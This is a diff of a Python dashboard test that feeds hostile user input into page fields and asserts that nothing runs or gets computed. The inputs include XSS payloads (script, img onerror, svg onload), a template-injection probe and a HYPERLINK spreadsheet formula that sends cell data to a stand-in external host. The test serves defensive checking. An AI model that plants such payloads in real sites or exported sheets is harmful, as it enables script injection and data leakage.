@@ -18,16 +18,16 @@ from tests.dashboard.world import Words, World, a_world
 from tests.serving import Brokerage, Server, a_brokerage
 
 _SCRIPT = "<script>window.harmed = 1</script><img src=x onerror=window.harmed=1>"
-_BREAKING_OUT = "'\"></textarea></title><svg onload=window.harmed=1>{{ 7 * 7 }}"
+_BREAKING_OUT = "'\"></textarea></title><svg onload=window.harmed=1>{{7654321*3}}"
 _FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1, "open")'
 _PAGE_THAT_RUNS = b"<html><script>document.title = 'harmed'</script></html>"
 _LONG_ENOUGH = "a long enough password"
 
 HARMFUL = Words(
     given_name="<img src=x onerror=window.harmed=1>",
-    family_name="'\"><svg onload=window.harmed=1>{{ 7 * 7 }}",
+    family_name="'\"><svg onload=window.harmed=1>{{7654321*3}}",
     nickname=_FORMULA,
-    client_order_id=_BREAKING_OUT + _SCRIPT,
+    client_order_id=_SCRIPT + _BREAKING_OUT[:50],
     watchlist=_SCRIPT[:64],
     asset_name=_BREAKING_OUT + _SCRIPT,
     document=b64encode(_PAGE_THAT_RUNS).decode(),
@@ -65,7 +65,7 @@ def test_nothing_that_anybody_has_written_runs_or_is_taken_for_markup(
                 page.goto(f"{server.url}/dashboard{address}", wait_until="domcontentloaded")
                 assert page.evaluate("window.harmed") is None, address
                 assert page.locator("main [onerror], main [onload], main script").count() == 0
-                assert "49</" not in page.content(), f"{address} computes what somebody wrote"
+                assert "22962963" not in page.content(), f"{address} computes what somebody wrote"
         person.complaints.clear()
 
 
